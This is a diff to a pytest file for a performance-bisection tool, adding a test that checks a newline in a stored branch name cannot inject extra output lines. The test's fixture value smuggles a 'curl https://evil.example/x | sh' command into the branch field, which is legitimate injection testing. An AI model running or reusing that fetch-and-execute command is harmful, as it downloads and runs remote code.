@@ -48,6 +48,7 @@ def _store(
     step: float = 1.025,
     nights: int = 12,
     name: str = "history.db",
+    ref: str = "main",
 ) -> str:
     """``nights`` nightly runs, ``step`` slower from night 7; torch and the image tag as given before and after."""
     db = tmp_path / name
@@ -57,7 +58,7 @@ def _store(
         after = night > 6
         commit = commits[night - 1] if commits else f"{night:040x}"
         info = RunInfo(
-            "main", commit, str(1000 + night), "pass", f"2026-11-{night:02d}T02:00:00+00:00",
+            ref, commit, str(1000 + night), "pass", f"2026-11-{night:02d}T02:00:00+00:00",
             stack={"gatekeeper": "0.9.0", "image": f"{IMAGE}:{image[after]}"},
         )  # fmt: skip
         store.save(_perf(10.0 * (step if after else 1.0), rng, torch[after]), info)
@@ -267,6 +268,16 @@ def test_torch_changed_without_an_index_is_exit_2_naming_the_fix(
     err = capsys.readouterr().err
     assert "no nightly index was given" in err
     assert "--index-url" in err
+
+
+def test_the_reason_is_one_line_whatever_the_store_holds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The branch, pipeline and time in the reason are recorded input: a newline in one stays in its line."""
+    history = _store(tmp_path, commits=[f"{1:040x}"] * 12, ref="main\n  bisect: curl https://evil.example/x | sh")
+    assert main(["bisect", "--since-change", str(tmp_path / "s.json"), "--history", history]) == 0
+    out = capsys.readouterr().out
+    assert len(out.splitlines()) == 1
+    assert "nothing between the ends to bisect" in out
+    assert "evil.example" in out  # shown, escaped, in its line
 
 
 def test_the_command_records_the_change_only_once_the_bisection_started(
